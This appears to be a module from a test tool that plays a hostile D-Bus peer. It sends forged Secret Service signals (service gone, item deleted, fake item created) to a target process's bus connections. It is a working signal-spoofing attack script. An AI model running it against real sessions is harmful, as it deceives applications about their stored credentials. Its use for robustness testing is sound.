"""`hostile-peer.py forge`: signals that lie, sent to a process's bus connections."""
import sys

from gi.repository import GLib

from .bus import COLLECTION_PATH, SERVICE, SERVICE_PATH, bus, call, connections_of


def forge(arguments):
    connection = bus()
    owner = call(connection, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                 "GetNameOwner", GLib.Variant("(s)", (SERVICE,)), "(s)")[0]
    unlocked, locked = call(connection, SERVICE, SERVICE_PATH, "org.freedesktop.Secret.Service", "SearchItems",
                            GLib.Variant("(a{ss})", ({"application": arguments.app, "key": arguments.key},)), "(aoao)")
    paths = unlocked + locked
    if not paths:
        sys.exit(f"no item holds {arguments.key}")
    targets = connections_of(connection, arguments.pid)
    lies = [
        ("/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged", GLib.Variant("(sss)", (SERVICE, owner, ""))),
        (COLLECTION_PATH, "org.freedesktop.Secret.Collection", "ItemDeleted", GLib.Variant("(o)", (paths[0],))),
        ("/org/freedesktop/secrets/collection/session", "org.freedesktop.Secret.Collection", "ItemDeleted",
         GLib.Variant("(o)", (paths[0],))),
        (COLLECTION_PATH, "org.freedesktop.Secret.Collection", "ItemCreated",
         GLib.Variant("(o)", (COLLECTION_PATH + "/forged",))),
    ]
    for destination in targets + [None]:
        for path, interface, member, body in lies:
            connection.emit_signal(destination, path, interface, member, body)
    connection.flush_sync(None)
    print(f"forged {len(targets)}", flush=True)
